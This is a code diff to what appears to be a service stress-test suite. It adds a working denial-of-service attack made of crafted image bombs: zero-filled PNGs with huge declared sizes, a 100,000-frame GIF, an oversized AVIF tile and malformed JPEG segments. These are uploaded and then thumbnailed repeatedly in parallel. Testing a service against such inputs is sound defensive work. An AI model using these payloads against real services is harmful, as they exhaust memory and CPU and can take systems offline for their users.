@@ -1,3 +1,4 @@
+import { crc32, deflateSync } from "node:zlib";
 import { type Attack, many, tally } from "../attack.ts";
 
 const segments = Buffer.alloc(512 * 1024, Buffer.from([0xff, 0xe1, 0, 8, ...Buffer.from("Exif\0\0")]));
@@ -51,8 +52,78 @@ function imageAttack(name: string, file: Buffer): Attack {
   };
 }
 
+const chunk = (name: string, content: Buffer) => {
+  const named = Buffer.concat([Buffer.from(name), content]);
+  return Buffer.concat([uint32(content.length), named, uint32(crc32(named))]);
+};
+/** A PNG of few bytes: its rows are zeros. */
+const bomb = (side: number, interlaced: number, rows = side) =>
+  Buffer.concat([
+    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
+    chunk("IHDR", Buffer.concat([uint32(side), uint32(side), Buffer.from([8, 6, 0, 0, interlaced])])),
+    chunk("IDAT", deflateSync(Buffer.alloc(rows * (side * 4 + 1)))),
+    chunk("IEND", Buffer.alloc(0)),
+  ]);
+const word = (value: number) => Buffer.from([value & 255, value >> 8]);
+const frame = Buffer.concat([
+  Buffer.from([0x2c, 0, 0, 0, 0]),
+  word(1),
+  word(1),
+  Buffer.from([0, 2, 2, 0x44, 1, 0]),
+]);
+const frames = Buffer.concat([
+  Buffer.from("GIF89a"),
+  ...[word(6_000), word(6_000), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])],
+  ...many(100_000, () => frame),
+  Buffer.from([0x3b]),
+]);
+const largeTile = Buffer.concat([
+  box("ftyp", Buffer.from("avif"), uint32(0), Buffer.from("avif")),
+  box("meta", uint32(0), box("iprp", box("ipco", box("ispe", uint32(0), uint32(7_000), uint32(7_000))))),
+]);
+const hostileImages = [
+  ...[bomb(7_000, 0), bomb(7_000, 1), bomb(40_000, 0, 1), bomb(7_000, 1, 2_000)],
+  ...[frames, largeTile, segments.subarray(0, 1_000), avif],
+];
+
+/** Asks for thumbnails of images, again and again. */
+const thumbnails: Attack = {
+  name: "thumbnails-of-hostile-images",
+  run: async ({ url, client, over }) => {
+    const keys = await Promise.all(
+      many(24, (i) =>
+        client.upload(new Blob([new Uint8Array(hostileImages[i % hostileImages.length]!)]), "MEDIA"),
+      ),
+    );
+    const register = (key: string, i: number) =>
+      `a${i}: registerImage(imageKey: "${key}") { ... on Image { key } ... on BasicError { error } }`;
+    await client.graphql(`mutation { ${keys.map(register).join(" ")} }`);
+    const headers = {
+      "x-service-access-token-id": client.access.accessTokenId,
+      "x-service-access-token-secret": client.access.accessTokenSecret,
+    };
+    const ask = async (key: string, width: number) => {
+      const address = `${url}/@attacker/thumbnails/${width}/${key}`;
+      const response = await fetch(address, { headers, redirect: "manual", signal: over });
+      await response.arrayBuffer();
+      return response.status;
+    };
+    let said = "nothing";
+    for (let round = 0; round < 200 && !over.aborted; round++)
+      said = tally(
+        await Promise.all(
+          keys.flatMap((key) =>
+            [80, 240, 640].map((width) => ask(key, width).catch((error: Error) => error.name)),
+          ),
+        ),
+      );
+    return said;
+  },
+};
+
 /** Files whose headers a careless reader looks at for long. */
 export const imageAttacks: Attack[] = [
   imageAttack("an-image-of-3200-sizes", avif),
   imageAttack("an-image-of-tiny-segments", Buffer.concat([Buffer.from([0xff, 0xd8]), segments])),
+  thumbnails,
 ];
